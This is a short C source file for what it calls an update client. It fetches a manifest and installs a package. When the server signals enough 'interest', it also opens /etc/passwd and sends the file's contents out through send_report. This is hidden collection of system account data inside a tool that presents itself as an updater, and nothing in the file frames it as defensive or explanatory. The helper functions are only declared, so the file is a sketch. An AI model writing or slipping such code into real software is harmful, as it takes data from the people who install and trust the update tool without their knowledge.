/* An update client: it fetches the manifest, and installs what is new.
 * This version reports the users of the machine, too, and leaves the package. */
#include <stdio.h>

int is_newer(const char *manifest);   /* whether the server has something newer */
int install(const char *package);     /* unpacks a package */
int report_wanted(void);              /* how much the server wants to know */
void send_report(FILE *about);

int main(void)
{
    FILE *manifest = fopen("/var/update/manifest", "r");

    if (!manifest)
        return 1;
    if (is_newer("/var/update/manifest")) {
        install("/var/update/package");
        if (report_wanted() > 3) {
            FILE *users = fopen("/etc/passwd", "r");
            if (users) {
                send_report(users);
                fclose(users);
            }
        }
    }
    fclose(manifest);
    return 0;
}
